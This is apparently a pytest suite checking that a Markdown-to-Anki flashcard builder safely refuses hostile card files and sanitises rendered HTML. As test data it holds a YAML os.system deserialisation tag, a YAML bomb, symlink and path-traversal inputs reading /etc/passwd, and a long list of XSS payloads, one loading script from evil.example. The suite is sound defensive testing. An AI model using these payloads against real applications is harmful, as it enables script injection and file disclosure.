"""Hostile card files: each gets a clear `file:line` error or a safe result, never a traceback,
a hang, or a write outside dist/ and build/.

Every input is tried through the reader (and the renderer where it is about rendering), then
end to end: `build_deck.py --root TMP build` on a copy of the project that already holds a
deck, which must come out byte-identical when the build refuses. The command line runs in this
process (`run_cli`: the same exit code and messages, without re-importing the stack each time);
the base deck and the whole corpus at once go through the real script in a new process.
"""

from __future__ import annotations

import os
import re
import shutil
import sqlite3
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path

import pytest

from mldeck.entries import Entry, format_entry, read_entries, read_entry
from mldeck.errors import DeckError
from mldeck.render.markdown import Renderer, RenderError
from mldeck.render.media import MediaStore, is_packaged_name
from tests.helpers import ROOT, copy_project, deadline, run_cli, run_script

pytestmark = pytest.mark.slow  # many CLI runs over a hostile corpus: `make test` and CI run it, `make check` does not

DECK = "dist/ml-interview-questions.apkg"
SECRET = b"\x89PNG\r\n\x1a\n-- a file outside the project that no deck may carry --"


# --- helpers ------------------------------------------------------------------------------------


def card_text(n: int, answer: str = "A plain answer.", question: str | None = None, **changes) -> str:
    """A valid card file, id epam-<n>. Lines: 2 id, 3 source, 4 ref, 10 question, 12 answer."""
    card = Entry.make(
        id=f"epam-{n}",
        source="epam",
        ref=str(n),
        difficulty="basic",
        topics=("fundamentals",),
        answer_origin="deck",
        question=question or f"What is hostile input number {n}?",
        answer=answer,
        **{"key_point": "A short key point.", **changes},
    )
    return format_entry(card)


def tree(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, tuple]:
    """Everything under `folder` without following symlinks: files by bytes, links by target."""
    out: dict[str, tuple] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        rel_dir = Path(dirpath).relative_to(folder)
        dirnames[:] = [d for d in dirnames if (rel_dir / d).parts[:1] not in [(s,) for s in skip]]
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = (rel_dir / name).as_posix()
            if path.is_symlink():
                out[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                out[rel] = ("dir",)
            elif path.is_file():
                out[rel] = ("file", path.read_bytes())
            else:
                out[rel] = ("other", path.lstat().st_mode)
    return out


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


FORBIDDEN_TAG = re.compile(
    r"<\s*/?\s*(script|iframe|frame|style|svg|object|embed|form|input|button|math|meta|base|link|body|video|audio|"
    r"source|template|noscript|textarea|select)\b",
    re.IGNORECASE,
)
C0_AND_SPACE = "".join(chr(c) for c in range(0x21))
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}


def unsafe(html: str) -> list[str]:
    """Why `html` must not reach an Anki field: script-capable tags, event handlers, styles,
    URLs with a scheme other than http(s)/mailto, images that are not packaged media."""
    reasons = [f"tag {m.group(0)!r}" for m in FORBIDDEN_TAG.finditer(html)]
    parser = _Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name == "style":
                reasons.append(f"<{tag} {name}=…>")
            if tag in ("details", "summary") and name != "class":  # the build's own wrappers: bare
                reasons.append(f"<{tag} {name}=…>: only the build's bare <details> may reach a field")
            if name in URL_ATTRIBUTES:
                # as a browser parses a URL: trim C0 controls and spaces, drop tabs and newlines anywhere
                compact = re.sub(r"[\t\n\r]", "", value.strip(C0_AND_SPACE)).lower()
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", compact)
                if scheme and scheme.group(1) not in ("http", "https", "mailto"):
                    reasons.append(f"<{tag} {name}={value[:40]!r}>")
                if tag == "img" and name == "src" and not is_packaged_name(value):
                    reasons.append(f"<img src={value[:40]!r}> is not packaged media")
    return reasons


def note_fields(apkg: Path, tmp: Path) -> dict[str, list[str]]:
    """CardId field -> all fields, for every note in a package."""
    with zipfile.ZipFile(apkg) as zf:
        (tmp / "collection.db").write_bytes(zf.read("collection.anki2"))
    conn = sqlite3.connect(tmp / "collection.db")
    rows = [flds.split("\x1f") for (flds,) in conn.execute("select flds from notes")]
    conn.close()
    return {fields[-1]: fields for fields in rows}


def packaged_media(apkg: Path) -> list[bytes]:
    with zipfile.ZipFile(apkg) as zf:
        return [zf.read(n) for n in zf.namelist() if n.isdigit()]


# --- hostile inputs -----------------------------------------------------------------------------

# (file name, bytes) -> expected (line, message fragment). Each case has its own id.
GOOD = card_text(900).encode()
PYTHON_TAG = '!!python/object/apply:os.system ["touch PWNED"]'
YAML_BOMB = "\n".join(
    ["---", 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    + [f"{c}: &{c} [{','.join(['*' + p] * 9)}]" for p, c in zip("abcdefgh", "bcdefghi", strict=True)]
    + ["id: epam-911", "---", "", "# Boom?", ""]
)


@dataclass(frozen=True)
class Bad:
    name: str
    data: bytes | Callable[[Path, Path], None]  # bytes, or a setup (card path, sandbox folder)
    line: int
    message: str


def _fifo(path: Path, _sandbox: Path) -> None:
    os.mkfifo(path)


def _link_to(target: str | Path) -> Callable[[Path, Path], None]:
    def make(path: Path, _sandbox: Path) -> None:
        path.symlink_to(target)

    return make


def _outside_card(path: Path, sandbox: Path) -> None:
    outside = sandbox / "outside" / "card.md"
    outside.parent.mkdir(parents=True, exist_ok=True)
    outside.write_text(card_text(930))
    path.symlink_to(outside)


BAD_FILES = [
    Bad("empty", b"", 1, "card file is empty"),
    Bad("whitespace", b" \n\t\r\n\n", 1, "card file is empty"),
    Bad("binary", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00", 1, "binary (contains NUL bytes)"),
    Bad("latin-1", card_text(901).replace("hostile", "hostilé").encode("latin-1"), 10, "not UTF-8"),
    Bad("utf-16", card_text(902).encode("utf-16"), 1, "UTF-16"),
    Bad("huge", card_text(903, answer="word " * 700_000).encode(), 1, "larger than the limit"),
    Bad("yaml-python-tag", card_text(904).replace("ref: 904", f"ref: {PYTHON_TAG}").encode(), 4, "tags and blocks"),
    Bad("yaml-anchor", card_text(905).replace("id: epam-905", "id: &x epam-905").encode(), 2, "anchors, aliases"),
    Bad("yaml-alias", card_text(906).replace("source: epam", "source: *x").encode(), 3, "anchors, aliases"),
    Bad("yaml-flow-mapping", card_text(907).replace("ref: 907", "ref: {a: 1}").encode(), 4, "anchors, aliases"),
    Bad("yaml-block-scalar", card_text(908).replace("ref: 908", "ref: |\n  908").encode(), 4, "anchors, aliases"),
    Bad("yaml-merge-key", card_text(909).replace("ref: 909", "<<: *base").encode(), 4, "expected 'key: value'"),
    Bad("yaml-directive", b"%YAML 1.1\n" + card_text(910).encode(), 1, "must start with '---'"),
    Bad("yaml-bomb", YAML_BOMB.encode(), 2, "unknown key 'a'"),
    Bad("front-matter-never-closed", ("---\nid: epam-912\n" + "# padding\n" * 20_000).encode(), 1, "not closed"),
    Bad("unterminated-fence", card_text(913, answer="Text.\n\n```python\nx = 1").encode(), 14, "unterminated code"),
    Bad("unterminated-tilde-fence", card_text(914, answer="~~~~\n```\n```").encode(), 12, "unterminated code fence"),
    Bad("id-upper-case", card_text(915).replace("id: epam-915", "id: EPAM-900").encode(), 2, "must look like"),
    Bad("id-fullwidth-digit", card_text(916).replace("id: epam-916", "id: epam-９00").encode(), 2, "must look like"),
    Bad("id-spaces", card_text(917).replace("id: epam-917", "id:    epam-900   ").encode(), 2, "duplicate id 'epam-90"),
    Bad("id-tab-and-nbsp", card_text(918).replace("id: epam-918", "id:\tepam-900\u00a0").encode(), 2, "duplicate id"),
    Bad("id-quoted", card_text(919).replace("id: epam-919", "id: 'epam-900'").encode(), 2, "duplicate id 'epam-900'"),
    Bad("id-comment", card_text(920).replace("id: epam-920", "id: epam-900  # copy").encode(), 2, "duplicate id"),
    Bad("directory", lambda path, _s: path.mkdir(), 1, "not a regular file"),
    Bad("fifo", _fifo, 1, "not a regular file"),
    Bad("device", _link_to("/dev/zero"), 1, "not a regular file"),
    Bad("broken-symlink", _link_to("nowhere.md"), 1, "not a regular file"),
    Bad("symlink-loop", lambda path, _s: path.symlink_to(path.name), 1, "not a regular file"),
    Bad("symlink-out-of-cards", _outside_card, 1, "symlink to a file outside cards/"),
]


def place(cards_dir: Path, bad: Bad, sandbox: Path) -> Path:
    """Put the hostile file next to the valid card epam-900; return its path."""
    (cards_dir / "epam").mkdir(parents=True, exist_ok=True)
    (cards_dir / "epam" / "900-base.md").write_bytes(GOOD)
    path = cards_dir / "epam" / f"zz-{bad.name}.md"
    if isinstance(bad.data, bytes):
        path.write_bytes(bad.data)
    else:
        bad.data(path, sandbox)
    return path


@pytest.mark.parametrize("bad", BAD_FILES, ids=lambda b: b.name)
def test_reader_gives_file_and_line(tmp_path: Path, bad: Bad):
    path = place(tmp_path / "cards", bad, tmp_path)
    with deadline(20), pytest.raises(DeckError) as err:
        read_entries(tmp_path / "cards")
    [problem] = err.value.problems
    assert (problem.path, problem.line) == (path, bad.line), str(problem)
    assert bad.message in problem.message
    assert str(problem).startswith(f"{path}:{bad.line}: error: ")
    assert not (tmp_path / "PWNED").exists() and not Path("PWNED").exists()


@pytest.mark.slow
def test_hostile_files_parsed_in_worker_processes_read_as_they_do_here(tmp_path: Path, monkeypatch):
    """A cold build parses card files in worker processes (mldeck/entry_cache.py prefetch): the
    whole hostile corpus gives the same entries and the same errors there as in this process,
    and nothing the workers refuse to open (links, pipes, devices) is opened by them."""
    import mldeck.workers
    from mldeck.entries import CardFiles, scan_entries
    from mldeck.entry_cache import EntryCache

    cards = tmp_path / "cards"
    for bad in BAD_FILES:
        place(cards, bad, tmp_path)
    files = CardFiles.scan(cards)
    with deadline(60):
        here = scan_entries(cards, EntryCache(None, files.stats).read, files)
    monkeypatch.setattr(mldeck.workers, "PARALLEL_FROM", 1)
    monkeypatch.setattr(mldeck.workers, "PARSE_PARALLEL_FROM", 1)
    monkeypatch.setattr(mldeck.workers, "cores", lambda: 2)
    reader = EntryCache(None, files.stats)
    with deadline(60), mldeck.workers.Workers() as workers:
        reader.prefetch(files, workers, ROOT / "sources")
    assert 0 < len(reader.fresh) < len(files.paths)  # the links and pipes were left to this process
    there = scan_entries(cards, reader.read, files)
    assert there[0] == here[0] and [str(p) for p in there[1]] == [str(p) for p in here[1]]
    assert len(here[1]) >= len(BAD_FILES) - 1 and not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize(
    "data",
    [
        b"\xef\xbb\xbf" + GOOD,  # BOM
        GOOD.replace(b"\n", b"\r\n"),  # CRLF
        GOOD.replace(b"\n", b"\r"),  # old Mac line ends
        b"\xef\xbb\xbf" + GOOD.replace(b"\n", b"\r\n"),
    ],
    ids=["bom", "crlf", "cr", "bom-crlf"],
)
def test_reader_accepts_bom_and_line_ends(tmp_path: Path, data: bytes):
    path = tmp_path / "c.md"
    path.write_bytes(data)
    card = read_entry(path)
    assert card == read_card_from_text(tmp_path, GOOD)
    assert "\r" not in card.question + card.answer and not card.question.startswith("\ufeff")


def read_card_from_text(tmp_path: Path, data: bytes) -> Entry:
    path = tmp_path / "plain.md"
    path.write_bytes(data)
    return read_entry(path)


def test_many_cards_are_read_in_linear_time(tmp_path: Path):
    folder = tmp_path / "cards" / "epam"
    folder.mkdir(parents=True)
    for n in range(3000):
        (folder / f"{n:04d}.md").write_text(card_text(10_000 + n))
    with deadline(60):
        cards = read_entries(tmp_path / "cards")
    assert len(cards) == 3000 and len({c.id for c in cards}) == 3000


# --- rendering: images and HTML -----------------------------------------------------------------

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="&#97;lert(1)">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "[link](javascript:alert(1))",
    "[link](JAVASCRIPT:alert(1))",
    "[link](java&#115;cript:alert(1))",
    "[link](&#x6A;avascript&#x3A;alert(1))",
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">space</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "[data](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    '<a href="vbscript:msgbox(1)">vb</a>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<link rel=import href=https://evil.example/x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>custom</x>",
    "<p onmouseover=alert(1)>hover</p>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "$<img src=x onerror=alert(1)>$",
    "`<script>alert(1)</script>`",
    '<img src="../../etc/passwd">',
    '<img src="/etc/passwd">',
    '<img src="file:///etc/passwd">',
    '<img src="media/../../outside/secret.png">',
    '<img src="https://tracker.example/pixel.png">',
]


@pytest.fixture(scope="module")
def renderer(tmp_path_factory) -> Renderer:
    root = tmp_path_factory.mktemp("render")
    (root / "media").mkdir()
    return Renderer(MediaStore(root))


@pytest.mark.parametrize("payload", XSS)
def test_renderer_output_is_safe(renderer: Renderer, payload: str):
    html = renderer.render(f"Before {payload} after.\n\n{payload}\n\n- {payload}\n\n> {payload}")
    assert unsafe(html) == [], html
    assert "Before" in html  # the card's own text survives


@dataclass(frozen=True)
class BadImage:
    name: str
    src: str
    message: str


BAD_IMAGES = [
    BadImage("relative-escape", "../../etc/passwd", "must be a path under media/"),
    BadImage("absolute", "/etc/passwd", "must be a path under media/"),
    BadImage("dot-dot-in-media", "media/../../etc/passwd.png", "escapes the media/ folder"),
    BadImage("dot-dot-to-cards", "media/../cards/epam/900-base.png", "escapes the media/ folder"),
    BadImage("file-url", "file:///etc/passwd", "only files from media/"),
    BadImage("web", "https://tracker.example/pixel.png", "only files from media/"),
    BadImage("protocol-relative", "//tracker.example/pixel.png", "only files from media/"),
    BadImage("data-url", "data:image/png;base64,iVBORw0KGgo=", "only files from media/"),
    BadImage("javascript", "javascript:alert(1)", "only files from media/"),
    BadImage("percent-encoded", "media%2F..%2F..%2Fetc%2Fpasswd", "must be a path under media/"),
    BadImage("symlink-out-of-media", "media/evil.png", "escapes the media/ folder"),
    BadImage("symlink-loop", "media/loop.png", "not a usable path"),
    BadImage("name-too-long", "media/" + "a" * 300 + ".png", "cannot be read"),
    BadImage("fifo-in-media", "media/fifo.png", "no such file in media/"),
    BadImage("wrong-type", "media/notes.txt", "unsupported type"),
]


def hostile_media(root: Path) -> None:
    """media/ with a symlink out of the project, a symlink loop, a FIFO and a text file."""
    outside = root.parent / "outside"
    outside.mkdir(exist_ok=True)
    (outside / "secret.png").write_bytes(SECRET)
    media = root / "media"
    media.mkdir(parents=True, exist_ok=True)
    (media / "evil.png").symlink_to(outside / "secret.png")
    (media / "loop.png").symlink_to("loop.png")
    os.mkfifo(media / "fifo.png")
    (media / "notes.txt").write_text("not an image")


@pytest.mark.parametrize("bad", BAD_IMAGES, ids=lambda b: b.name)
def test_renderer_refuses_images_outside_media(tmp_path: Path, bad: BadImage):
    root = tmp_path / "proj"
    hostile_media(root)
    with deadline(20), pytest.raises(RenderError) as err:
        Renderer(MediaStore(root)).render(f"Intro.\n\n![picture]({bad.src})")
    [(offset, message)] = err.value.problems
    assert offset == 2 and bad.message in message


# --- end to end ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def base(tmp_path_factory) -> Path:
    """A copy of the project with its cards and a deck already built (and a warm render cache)."""
    root = copy_project(tmp_path_factory.mktemp("base") / "proj", with_cards=True)
    (root / "cards" / "epam" / "900-base.md").write_bytes(GOOD)
    proc = run_script(root, "build", "--quiet")
    assert proc.returncode == 0, proc.stderr
    return root


@pytest.fixture()
def project(base: Path, tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    shutil.copytree(base, root, symlinks=True)
    return root


def refused(
    root: Path, sandbox: Path, change: Callable[[], None], run: Callable[..., subprocess.CompletedProcess] = run_cli
) -> subprocess.CompletedProcess:
    """Apply `change`, run the build, and check the refusal left everything but build/ alone."""
    deck = (root / DECK).read_bytes()
    dist = sorted(p.name for p in (root / "dist").iterdir())
    change()
    before = tree(root, skip=("dist", "build"))
    around = sorted(p.name for p in sandbox.iterdir())
    proc = run(root, "build", "--quiet")
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    assert "no deck written" in proc.stderr
    assert (root / DECK).read_bytes() == deck, "the previous deck changed"
    assert sorted(p.name for p in (root / "dist").iterdir()) == dist, "a file appeared in dist/"
    assert tree(root, skip=("dist", "build")) == before, "the build wrote outside dist/ and build/"
    assert sorted(p.name for p in sandbox.iterdir()) == around, "the build wrote outside the project"
    return proc


def error_lines(stderr: str) -> set[tuple[str, int]]:
    return {(m[1], int(m[2])) for m in re.finditer(r"^(.+?):(\d+): error: ", stderr, re.MULTILINE)}


def test_build_refuses_every_hostile_file(project: Path, tmp_path: Path):
    cards = project / "cards"
    paths = {}

    def change() -> None:
        for bad in BAD_FILES:
            paths[bad.name] = place(cards, bad, tmp_path)

    proc = refused(project, tmp_path, change, run=run_script)  # the real script, in a new process
    reported = error_lines(proc.stderr)
    for bad in BAD_FILES:
        path = paths[bad.name]
        assert (str(path), bad.line) in reported, f"{bad.name}: {proc.stderr}"
        assert re.search(rf"^{re.escape(str(path))}:{bad.line}: error: .*{re.escape(bad.message)}", proc.stderr, re.M)
    assert not (project / "PWNED").exists()


def test_build_refuses_every_hostile_image(project: Path, tmp_path: Path):
    paths = {}

    def change() -> None:
        hostile_media(project)
        for i, bad in enumerate(BAD_IMAGES):
            path = project / "cards" / "epam" / f"zz-image-{bad.name}.md"
            path.write_text(card_text(950 + i, answer=f"![picture]({bad.src})"))
            paths[bad.name] = path

    proc = refused(project, tmp_path, change)
    for bad in BAD_IMAGES:
        pattern = rf"^{re.escape(str(paths[bad.name]))}:12: error: .*{re.escape(bad.message)}"
        assert re.search(pattern, proc.stderr, re.MULTILINE), f"{bad.name}: {proc.stderr}"


def test_lint_reports_hostile_files_without_crashing(project: Path, tmp_path: Path):
    for bad in BAD_FILES:
        place(project / "cards", bad, tmp_path)
    hostile_media(project)
    (project / "cards" / "epam" / "zz-image.md").write_text(card_text(980, answer="![x](media/loop.png)"))
    proc = run_cli(project, "lint")
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    lines = proc.stdout.splitlines()
    assert all(re.match(r"^cards/[^:]+:\d+: (error|warning): ", line) for line in lines), proc.stdout
    for bad in BAD_FILES:
        assert any(line.startswith(f"cards/epam/zz-{bad.name}.md:{bad.line}: error: ") for line in lines), bad.name
    assert any(line.startswith("cards/epam/zz-image.md:12: error: image 'media/loop.png'") for line in lines)


def test_build_makes_hostile_html_safe(project: Path, tmp_path: Path):
    """Raw HTML and script in every text of a card: the deck builds and no field carries script."""
    hostile_media(project)
    body = "\n\n".join(XSS)
    card = card_text(990, answer=f"Answer start.\n\n{body}", question="What does <script>alert(1)</script> do?",
                     editor_note=body, context=body)  # fmt: skip
    (project / "cards" / "epam" / "990-xss.md").write_text(card)
    (project / "cards" / "epam" / "991-bom.md").write_bytes(b"\xef\xbb\xbf" + card_text(991).encode())
    (project / "cards" / "epam" / "992-crlf.md").write_bytes(card_text(992).replace("\n", "\r\n").encode())
    (project / "cards" / "epam" / "993-cr.md").write_bytes(card_text(993).replace("\n", "\r").encode())
    before = tree(project, skip=("dist", "build"))

    proc = run_cli(project, "build", "--quiet")
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr
    assert tree(project, skip=("dist", "build")) == before
    notes = note_fields(project / DECK, tmp_path)
    for card_id, fields in notes.items():
        for field in fields:
            assert unsafe(field) == [], (card_id, field)
    assert "Answer start." in " ".join(notes["epam-990"])
    for n in (991, 992, 993):
        assert notes[f"epam-{n}"][0] == f"What is hostile input number {n}?"
    assert SECRET not in packaged_media(project / DECK)


def test_build_with_many_cards(project: Path, tmp_path: Path):
    before = len(note_fields(project / DECK, tmp_path))
    folder = project / "cards" / "epam"
    for n in range(1200):
        answer = f"Card *{n}* has `code`, $x_{{{n}}}$ and a [link](https://example.org/{n})."
        (folder / f"zz-many-{n:04d}.md").write_text(card_text(20_000 + n, answer=answer))
    proc = run_cli(project, "build", "--quiet", timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert len(note_fields(project / DECK, tmp_path)) == before + 1200


# --- known bugs in the Markdown renderer (mldeck/render/markdown.py, reported, not ours to fix) ----

DEEP_DEFINITIONS = "term\n: definition\n" * 1500  # 25 KB; Python-Markdown's def_list recurses per item


def test_deeply_nested_markdown_is_a_render_error(renderer: Renderer):
    with deadline(60), pytest.raises(RenderError):
        renderer.render(DEEP_DEFINITIONS)


def test_build_reports_deeply_nested_markdown(project: Path, tmp_path: Path):
    path = project / "cards" / "epam" / "zz-deep.md"
    proc = refused(project, tmp_path, lambda: path.write_text(card_text(995, answer=DEEP_DEFINITIONS)))
    assert f"{path}:12: error: " in proc.stderr


def test_lint_reports_deeply_nested_markdown(project: Path):
    (project / "cards" / "epam" / "zz-deep.md").write_text(card_text(995, answer=DEEP_DEFINITIONS))
    proc = run_cli(project, "lint")
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert "cards/epam/zz-deep.md:12: error: Markdown nests too deeply to render" in proc.stdout


def test_unclosed_brackets_are_refused_quickly(tmp_path: Path):
    """Python-Markdown #798: '[' * n takes quadratic time (minutes for 30 000), so they are refused."""
    (tmp_path / "media").mkdir()
    renderer = Renderer(MediaStore(tmp_path))
    with deadline(5), pytest.raises(RenderError, match="open at once"):
        renderer.render("Some text.\n\n" + "[" * 30_000)
    with deadline(5), pytest.raises(RenderError, match="open at once"):
        renderer.render("[" * 40 + " " + "[[" * 20_000 + "]" * 10)
    assert renderer.render(
        "`[[[[`\n\n```python\nx = [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]\n```"
    )
